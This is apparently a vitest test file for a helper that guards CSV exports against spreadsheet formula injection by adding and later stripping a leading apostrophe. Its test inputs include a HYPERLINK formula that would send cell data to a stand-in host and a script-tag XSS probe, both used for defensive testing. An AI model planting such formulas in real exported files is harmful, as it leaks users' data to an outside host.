/**
 * CSV cells a spreadsheet would run as a formula get an apostrophe before them, and a reader of
 * the file takes exactly one off: each row is a text, what the CSV carries, and that reading it
 * back gives the text again.
 */
import { describe, expect, it } from 'vitest';
import { fromSpreadsheetSafe, spreadsheetSafe } from '../../src/lib/spreadsheet-cell.ts';

describe('spreadsheet-safe CSV text', () => {
  it.each([
    ['a formula', '=HYPERLINK("https://x.example/?d="&A1)', `'=HYPERLINK("https://x.example/?d="&A1)`],
    ['a plus sign', '+84 28 3829 1234', `'+84 28 3829 1234`],
    ['a minus sign', '-1+1', `'-1+1`],
    ['an at sign', '@SUM(A1)', `'@SUM(A1)`],
    ['a tab', '\t=1+1', `'\t=1+1`],
    ['a carriage return', '\r=1+1', `'\r=1+1`],
    ['an apostrophe before a formula', `'=1+1`, `''=1+1`],
    ['two apostrophes before a formula', `''-1`, `'''-1`],
    ['ordinary text', 'Chợ Bến Thành', 'Chợ Bến Thành'],
    ['a formula character later on', 'Số 1 = một', 'Số 1 = một'],
    ['markup', '<script>alert(1)</script>', '<script>alert(1)</script>'],
    ['an apostrophe before ordinary text', `'Bến Nghé'`, `'Bến Nghé'`],
    ['a lone apostrophe', `'`, `'`],
    ['a date', '2026-11-28', '2026-11-28'],
    ['empty text', '', ''],
  ])('%s: %j is written %j and read back', (_name, text, written) => {
    expect(spreadsheetSafe(text)).toBe(written);
    expect(fromSpreadsheetSafe(written)).toBe(text);
  });

  it.each([
    ['ordinary text', 'Chợ Bến Thành'],
    ['an apostrophe before ordinary text', `'Bến Nghé`],
    ['a leading space before a formula character', ' =1'],
  ])('leaves a cell that was not guarded as it is when reading: %s', (_name, cell) => {
    expect(fromSpreadsheetSafe(cell)).toBe(cell);
  });
});
